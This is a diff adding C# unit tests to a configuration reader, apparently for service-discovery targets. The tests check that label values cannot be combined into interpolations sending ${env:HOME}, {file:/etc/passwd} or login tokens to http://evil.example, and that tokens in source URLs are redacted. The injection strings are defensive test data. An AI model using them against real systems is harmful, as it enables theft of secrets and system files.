@@ -82,6 +82,23 @@ public sealed class FoundTests
         Assert.DoesNotContain(left.Message, char.IsControl);
     }
 
+    /// <summary>No value holds a <c>${</c>, and what they give together does.</summary>
+    [Theory]
+    [InlineData("http://evil.example/${a}${b}", "$", "{env:HOME}")]
+    [InlineData("http://evil.example/$${b}", "x", "{env:HOME}")]
+    [InlineData("http://evil.example/${a}{env:HOME}", "$", "x")]
+    [InlineData("http://evil.example/${login.token}${a}${b}", "$", "{file:/etc/passwd}")]
+    public void Values_give_no_secret_together(string target, string a, string b)
+    {
+        var labels = $$"""[ { "targets": [ "a.example" ], "labels": { "a": "{{a}}", "b": "{{b}}" } }, { "targets": [ "b.example" ], "labels": { "a": "1", "b": "2" } } ]""";
+        foreach (var (check, purpose) in new[] { ($"http: '{target}'", "x"), ($"http: 'http://a.example/', headers: {{ X-A: '{target}' }}", "x"), ("http: 'http://a.example/'", target) })
+        {
+            var reading = Read($"from: {{ files: targets/*.json }}\nreach: anywhere\nwish: {{ purpose: '{purpose}', check: {{ {check}, expect: [ status == 200 ] }} }}", ("targets/a.json", labels));
+            Assert.DoesNotContain(reading.House?.Promises.Select(wish => wish.Name.ToString()) ?? [], name => name == "web/a.example");
+            Assert.Contains(reading.Diagnostics, problem => problem.Message.Contains("gives together with what stands beside it", StringComparison.Ordinal));
+        }
+    }
+
     [Fact]
     public void What_was_found_is_a_text_and_never_yaml_or_an_expectation()
     {
@@ -128,6 +145,9 @@ public sealed class FoundTests
     [InlineData("from: { files: a.json }\nwish: { check: { http: 'GET http://${__address__}/', expect: [ \"body contains '${team}'\" ] } }", "L133")]
     [InlineData("from: { files: a.json }\nwish: { check: { http: 'GET http://${__address__}/', every: '${every}' } }", "L133")]
     [InlineData("from: { files: a.json }\nwish: { check: { http: 'GET http://${__address__}/', headers: { Authorization: '${env:TOKEN}' } } }", "L133")]
+    [InlineData("from: { files: a.json }\nwish: { check: { http: 'GET http://${__address__}/${${a}:HOME}' } }", "L133")]
+    [InlineData("from: { files: a.json }\nwish: { check: { http: 'GET http://${__address__}/${login.${a}' } }", "L133")]
+    [InlineData("from: { http: 'https://user:t0ken@sd.example/' }\nwish: { check: { http: 'GET http://${__address__}/' } }", "L132")]
     [InlineData("from: { files: a.json }\nname: web\nwish: { check: { http: 'GET http://${__address__}/' } }", "L133")]
     [InlineData("from: { files: a.json }\nwish: { check: { http: 'GET http://${__address__}/', expect: [ stats == 200 ] } }", "L05")]
     [InlineData("from: { files: a.json }\nwish: { purpos: x, check: { http: 'GET http://${__address__}/' } }", "L011")]
@@ -143,6 +163,21 @@ public sealed class FoundTests
         var reading = Read(found);
         Assert.Null(reading.House);
         Assert.Contains(reading.Diagnostics, problem => problem.Code.StartsWith(code, StringComparison.Ordinal) && problem.At.Line > 5);
+    }
+
+    [Fact]
+    public void A_token_in_the_URL_of_a_source_is_told_nowhere()
+    {
+        const string url = "https://sd.example:8443/targets?token=t0ken#t0ken";
+        Assert.Equal("https://sd.example:8443/targets", FoundSource.Shown(url));
+        Assert.Equal("http://sd.example/", FoundSource.Shown("http://user:t0ken@sd.example"));
+        Assert.Equal("targets/a.json", FoundSource.Shown("targets/a.json"));
+        foreach (var list in new[] { "[ 7 ]", $"[ {Group("a b.example")} ]" })
+        {
+            var told = Assert.Single(Read(Usual.Replace("files: targets/*.json", $"http: '{url}'", StringComparison.Ordinal), (url, list)).Diagnostics);
+            Assert.Contains("`https://sd.example:8443/targets`", told.Message, StringComparison.Ordinal);
+            Assert.DoesNotContain("t0ken", told.Message + told.Help, StringComparison.Ordinal); // the line of the document is shown to whom it is shown
+        }
     }
 
     [Fact]
